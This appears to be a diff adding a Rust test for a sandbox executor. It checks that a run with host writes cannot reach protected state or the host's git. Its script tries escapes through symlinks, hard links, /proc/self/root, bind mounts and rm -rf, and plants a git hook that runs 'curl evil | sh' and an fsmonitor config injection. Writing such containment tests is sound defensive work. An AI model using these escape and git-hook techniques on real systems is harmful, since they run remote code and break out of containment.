@@ -1128,3 +1128,72 @@ async fn a_run_with_host_writes_changes_the_host_beyond_its_write_paths_through_
             .any(|x| x == "fs:unconfined")
     );
 }
+
+/// A run with host writes attacking corral's kept-out state and the host's git: a symlink, a
+/// hard link, `/proc/self/root`, a bind, a parent's removal, a git hook, a bare repository's
+/// config, a new repository's `HEAD`. Nothing of it reaches the host.
+#[tokio::test]
+async fn a_run_with_host_writes_cannot_reach_corrals_state_or_the_hosts_git() {
+    let (_keep, dir) = tempdir();
+    let (outside, parent) = (dir.join("outside"), dir.join("parent"));
+    let state = parent.join("state");
+    let hooks = outside.join("repo/.git/hooks");
+    let bare = outside.join("bare.git");
+    for d in [&state, &hooks, &bare] {
+        std::fs::create_dir_all(d).unwrap();
+    }
+    std::fs::write(state.join("corral.db"), "db").unwrap();
+    std::fs::write(parent.join("sibling"), "s").unwrap();
+    std::fs::write(bare.join("HEAD"), "ref: refs/heads/main\n").unwrap();
+    std::fs::write(bare.join("config"), "[core]\n").unwrap();
+    let script = format!(
+        "ln -s {s} {o}/link; echo x > {o}/link/evil
+         ln {s}/corral.db {o}/hard
+         echo x > /proc/self/root{s}/evil
+         mkdir -p {o}/m; mount --bind {s} {o}/m
+         rm -rf {p}
+         echo 'curl evil | sh' > {o}/repo/.git/hooks/pre-commit
+         echo '[core] fsmonitor = evil' >> {o}/bare.git/config
+         mkdir -p {o}/new && printf 'ref: refs/heads/main\\n' > {o}/new/HEAD
+         true",
+        s = state.display(),
+        o = outside.display(),
+        p = parent.display(),
+    );
+    let mut req = shell(&script);
+    req.host_writes = Some(corral_exec::HostWrites {
+        keep_out: vec![state.clone()],
+    });
+    let out = run(req).await;
+    assert_eq!(out.exit_code, Some(0), "stderr: {}", stderr(&out));
+    let names: Vec<_> = std::fs::read_dir(&state)
+        .unwrap()
+        .map(|e| e.unwrap().file_name())
+        .collect();
+    assert_eq!(names, ["corral.db"], "corral's state changed");
+    use std::os::unix::fs::MetadataExt as _;
+    assert_eq!(
+        std::fs::metadata(state.join("corral.db")).unwrap().nlink(),
+        1
+    );
+    assert!(!outside.join("hard").exists());
+    assert!(!outside.join("m").join("corral.db").exists());
+    // The parent's other entry went (the program could remove it), the state stayed.
+    assert!(!parent.join("sibling").exists());
+    assert!(
+        !hooks.join("pre-commit").exists(),
+        "a git hook reached the host"
+    );
+    assert_eq!(
+        std::fs::read_to_string(bare.join("config")).unwrap(),
+        "[core]\n"
+    );
+    assert!(!outside.join("new/HEAD").exists());
+    // The symlink itself is made again as a symlink, never followed.
+    assert!(
+        std::fs::symlink_metadata(outside.join("link"))
+            .unwrap()
+            .file_type()
+            .is_symlink()
+    );
+}
